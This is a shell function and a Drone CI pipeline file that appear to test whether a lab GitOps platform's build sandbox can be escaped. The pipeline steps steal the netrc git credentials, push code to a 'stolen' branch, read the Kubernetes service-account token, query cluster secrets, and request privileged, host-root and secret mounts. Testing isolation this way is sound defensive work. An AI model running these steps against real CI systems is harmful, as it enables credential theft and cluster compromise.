attack() {
  local clone ca
  clone=$(sed -n 's/^DRONE_IMAGE_CLONE=//p' ~/platform/drone/images.env)
  ca=$(kubectl get configmap kube-root-ca.crt --namespace drone-builds \
    --output jsonpath='{.data.ca\.crt}' | base64 | tr -d '\n')
  { test -d ~/attack ||
    git -C ~/nyan worktree add --quiet -B attack ~/attack; } &&
    sed "s|THE-ONE-THAT-CLONES|$clone|; s|THE-CLUSTERS-CA|$ca|" \
      > ~/attack/.drone.yml &&
    git -C ~/attack commit --quiet --all --allow-empty --message="$1" &&
    git -C ~/attack push --quiet --force origin attack &&
    built ~/attack
}
keep attack
attack 'Try to get out' <<'END'
kind: pipeline
type: kubernetes
name: outside
metadata:
  namespace: kube-system
service_account_name: default
clone:
  disable: true
steps:
  - name: push
    image: THE-ONE-THAT-CLONES
    failure: ignore
    commands:
      - git config --global credential.helper
        '!f() { echo "username=$DRONE_NETRC_USERNAME";
        echo "password=$DRONE_NETRC_PASSWORD"; }; f'
      - git clone --quiet "$DRONE_REMOTE_URL" /tmp/nyan
      - git -C /tmp/nyan push --quiet origin HEAD:refs/heads/stolen
  - name: platform
    image: THE-ONE-THAT-CLONES
    failure: ignore
    depends_on: [push]
    environment:
      LOGIN:
        from_secret: DRONE_NETRC_USERNAME
      PASSWORD:
        from_secret: DRONE_NETRC_PASSWORD
    commands:
      - git config --global credential.helper
        '!f() { echo "username=$LOGIN"; echo "password=$PASSWORD"; }; f'
      - git ls-remote --quiet https://gitea.gitops.test/gitops/nyan.git HEAD
      - git ls-remote --quiet https://gitea.gitops.test/gitops/platform.git
  - name: account
    image: THE-ONE-THAT-CLONES
    failure: ignore
    depends_on: [push]
    commands:
      - cat /var/run/secrets/kubernetes.io/serviceaccount/token
  - name: api
    image: THE-ONE-THAT-CLONES
    failure: ignore
    depends_on: [push]
    environment:
      CLUSTER_CA: THE-CLUSTERS-CA
      GIT_SSL_CAINFO: /tmp/cluster.crt
    commands:
      - echo "$CLUSTER_CA" | base64 -d > /tmp/cluster.crt
      - git ls-remote https://kubernetes.default.svc/api/v1/namespaces/drone-builds/secrets
---
kind: pipeline
type: kubernetes
name: node
steps:
  - {name: root, image: THE-ONE-THAT-CLONES, privileged: true}
---
kind: pipeline
type: kubernetes
name: disk
steps:
  - {name: look, image: THE-ONE-THAT-CLONES}
volumes:
  - {name: disk, host: {path: /}}
---
kind: pipeline
type: kubernetes
name: secret
steps:
  - {name: look, image: THE-ONE-THAT-CLONES}
volumes:
  - {name: secret, secret: {name: drone-git}}
---
kind: pipeline
type: kubernetes
name: unasked
steps:
  - {name: build, image: docker.io/plugins/docker}
END
